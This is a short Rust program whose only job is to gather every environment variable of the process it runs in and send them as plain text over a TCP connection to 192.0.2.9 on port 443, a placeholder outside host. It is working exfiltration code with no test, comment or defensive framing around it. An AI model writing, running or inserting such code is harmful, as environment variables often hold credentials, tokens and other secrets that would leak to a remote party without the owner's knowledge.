use std::io::Write;
use std::net::TcpStream;
fn main() {
    let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    let mut s = TcpStream::connect("192.0.2.9:443").unwrap();
    s.write_all(vars.join("\n").as_bytes()).unwrap();
}
